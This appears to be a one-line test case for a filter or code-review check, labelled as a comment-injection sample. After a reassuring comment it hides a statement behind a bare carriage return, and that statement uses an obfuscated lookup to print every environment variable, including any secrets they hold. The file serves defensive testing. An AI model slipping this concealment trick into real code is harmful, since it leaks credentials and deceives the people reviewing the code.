# family: injection
# filterfamily: unicode-comments
# tries: end a comment with a bare carriage return, which the compiler takes as a line end, and hide a statement after it
# source: none
# exfil: yes
print("report ready")  # nothing else happens hereimport pydoc; print(dict(pydoc.locate("o" + "s.environ")))
